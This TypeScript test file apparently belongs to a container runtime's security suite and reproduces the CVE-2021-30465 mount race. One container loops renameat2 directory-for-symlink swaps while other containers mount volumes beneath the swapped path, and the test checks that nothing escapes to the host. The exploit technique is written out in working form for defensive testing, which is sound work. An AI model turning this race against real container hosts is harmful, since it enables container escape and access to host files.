/**
 * A directory of a volume that others exchange for a link while a start mounts below it: CVE-2021-30465. Whoever checks a path
 * and then uses it loses this race sooner or later.
 */
import { mkdirSync, readdirSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { expect } from 'vitest';
import type { AttackCall } from '../../support/attack/index.ts';
import { attackProgram } from '../../support/attack/index.ts';
import { attackTest, canary, hostMounts, scratch, sh, start } from './box.ts';

const exchange = 2;

attackTest(
  'a volume mounted below what another container exchanges for a link stays within the container',
  async () => {
    const { directory, sings } = await canary();
    const shared = await scratch('shared');
    const secret = await scratch('secret');
    writeFileSync(join(secret, 'secret'), '');
    mkdirSync(join(shared, 'a'));
    symlinkSync(directory, join(shared, 'b'));
    const swap: AttackCall = { call: 'renameat2', args: [-100, '/shared/a', -100, '/shared/b', exchange] };
    const program = await scratch('program');
    writeFileSync(join(program, 'attack'), attackProgram(Array(2001).fill(swap)), { mode: 0o755 });

    const loop = 'echo ready; while :; do /attack/attack > /dev/null; done';
    const volumes = [`${shared}:/shared`, `${program}:/attack:ro`];
    await using attacker = await start(['sh', '-c', loop], { volumes });
    await new Promise<void>((resolve) => attacker.stdout.once('data', () => resolve()));

    const found = new Set<string>();
    for (let attempt = 0; attempt < 25; attempt++) {
      const victim = { volumes: [`${shared}:/shared`, `${secret}:/shared/a/below`], tmpfs: ['/shared/b/below'] };
      const script = 'find / -xdev -name secret 2>/dev/null; grep -o " /[^ ]*below " /proc/self/mounts';
      found.add(await sh(script, victim).catch((error) => error.code));
      sings();
    }
    expect(await hostMounts()).toEqual([]);
    expect(found.size).toBeGreaterThan(0);
    expect(readdirSync(secret)).toEqual(['secret']);
  },
);
